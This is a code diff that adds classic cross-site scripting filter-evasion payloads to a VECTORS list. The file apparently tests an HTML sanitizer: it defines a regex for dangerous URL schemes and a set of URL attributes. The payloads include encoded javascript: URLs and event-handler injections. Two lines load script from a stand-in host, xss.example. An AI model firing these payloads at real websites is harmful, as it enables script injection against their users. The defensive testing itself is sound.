@@ -33,6 +33,23 @@ VECTORS = [
     "<iframe src=javascript:alert(1)></iframe>",
     "<body onload=alert(1)>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    # more of the classic filter-evasion forms
+    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
+    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
+    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
+    "&#0000083&#0000083&#0000039&#0000041>",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<IFRAME SRCDOC=\"<script>alert(1)</script>\"></IFRAME>",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<a href=\"\\x01javascript:alert(1)\">x</a>",
+    "<details open ontoggle=alert(1)>",
 ]
 DANGEROUS_SCHEME = re.compile(r"^(?:javascript|data|vbscript|file):", re.I)
 URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "srcset"}
